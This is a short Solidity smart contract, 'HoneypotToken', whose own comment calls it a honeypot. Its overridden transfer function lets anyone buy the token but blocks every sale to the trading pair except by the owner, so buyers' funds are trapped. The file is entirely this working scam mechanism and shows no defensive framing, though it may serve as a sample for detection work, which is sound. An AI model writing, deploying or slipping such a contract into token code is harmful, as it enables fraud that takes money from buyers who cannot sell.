// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./BaseToken.sol";

/// Honeypot: anyone can buy, but only the owner can sell (transfer to the pair).
contract HoneypotToken is BaseToken {
    address public pair;

    constructor(string memory name_, string memory symbol_, uint256 supply) {
        _init(name_, symbol_, supply, msg.sender);
    }

    function setPair(address pair_) external onlyOwner {
        pair = pair_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(to != pair || from == owner, "HoneypotToken: sells are disabled");
        _move(from, to, value);
    }
}
